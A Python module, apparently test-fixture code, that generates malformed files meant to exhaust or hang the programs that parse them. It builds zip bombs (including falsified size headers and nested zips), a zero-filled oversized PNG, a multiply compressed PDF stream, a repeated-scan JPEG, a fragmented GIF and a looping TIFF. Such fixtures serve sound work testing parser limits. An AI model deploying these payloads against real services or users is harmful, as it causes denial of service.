"""Files made to harm the program that opens them, built from a few bytes."""

import struct
import zipfile
import zlib
from io import BytesIO

from PIL import Image

MEBIBYTE = 1024**2


def packed_zeros(mebibytes: int) -> bytes:
    """As `zlib.compress` gives so many: of zeros, one packed piece repeated."""
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(MEBIBYTE)) + packer.flush(zlib.Z_FULL_FLUSH)
    end = b"\x03\x00" + (((mebibytes * MEBIBYTE % 65_521) << 16) | 1).to_bytes(4, "big")
    return head + piece * mebibytes + end


def jpeg_of_scans(count: int, flat: tuple[int, int] | None = None) -> bytes:
    """A progressive JPEG whose last scan is repeated; small noise, or of one colour."""
    made = BytesIO()
    picture = Image.new("RGB", flat) if flat else Image.effect_noise((64, 48), 60).convert("RGB")
    picture.save(made, "JPEG", progressive=True)
    whole = made.getvalue()
    scan = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + scan * count + b"\xff\xd9"


def png_of_pixels(width: int, height: int, *before: bytes) -> bytes:
    """A transparent PNG of that size; `before` its data other chunks."""
    size = (1 + 4 * width) * height
    data = zlib.compress(bytes(size)) if size < MEBIBYTE else packed_zeros(-(-size // MEBIBYTE))
    head = struct.pack(">2I5B", width, height, 8, 6, 0, 0, 0)
    chunks = (chunk(b"IHDR", head), *before, chunk(b"IDAT", data), chunk(b"IEND", b""))
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def chunk(kind: bytes, content: bytes) -> bytes:
    """A part of a PNG."""
    check = zlib.crc32(kind + content)
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)


def gif_of_blocks(count: int) -> bytes:
    """A GIF of one dot whose data come in blocks of one byte."""
    head = b"GIF89a\1\0\1\0\x80\0\0" + bytes(6) + b"\x2c\0\0\0\0\1\0\1\0\0\2"
    return head + b"\1D" * count + b"\0;"


def tiff_in_circles() -> bytes:
    """A TIFF whose second directory leads back to the first."""
    made = BytesIO()
    Image.new("L", (4, 3)).save(made, "TIFF")
    whole = bytearray(made.getvalue())
    first = int.from_bytes(whole[4:8], "little")
    count = int.from_bytes(whole[first : first + 2], "little")
    end = first + 2 + 12 * count
    whole[end : end + 4] = first.to_bytes(4, "little")
    return bytes(whole)


def zip_bomb(part: str, size: int, *others: tuple[str, str], declared: int | None = None) -> bytes:
    """A zip with a part of so many zeros, which its directory may call smaller."""
    made = BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, text in others:
            archive.writestr(name, text)
        with archive.open(part, "w") as target:
            for _ in range(size // MEBIBYTE):
                target.write(bytes(MEBIBYTE))
    return made.getvalue() if declared is None else with_declared(made.getvalue(), part, declared)


def with_declared(whole: bytes, part: str, size: int) -> bytes:
    """The zip, in which both headers of the part give another size."""
    made = bytearray(whole)
    name = part.encode()
    for mark, at, length in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        found = made.index(mark)
        while made[found + length : found + length + len(name)] != name:
            found = made.index(mark, found + 1)
        made[found + at : found + at + 4] = size.to_bytes(4, "little")
    return bytes(made)


def zip_of_zips(depth: int) -> bytes:
    """Zips in zips."""
    inner = bytes(1_000)
    for level in range(depth):
        made = BytesIO()
        with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{level}.zip", inner)
        inner = made.getvalue()
    return inner


def pdf_of_streams(depth: int) -> bytes:
    """An encrypted PDF whose directory is a stream packed several times over."""
    data = packed_zeros(64)
    for _ in range(depth - 1):
        data = zlib.compress(data, 9)
    filters = b"/FlateDecode " * depth
    body = b"%PDF-1.7\n1 0 obj\n<</Type/XRef/Encrypt 2 0 R/Root 3 0 R/W[1 2 1]/Size 4"
    body += b"/Filter[" + filters + b"]/Length %d>>\nstream\n" % len(data) + data
    return body + b"\nendstream\nendobj\nstartxref\n9\n%%EOF\n"
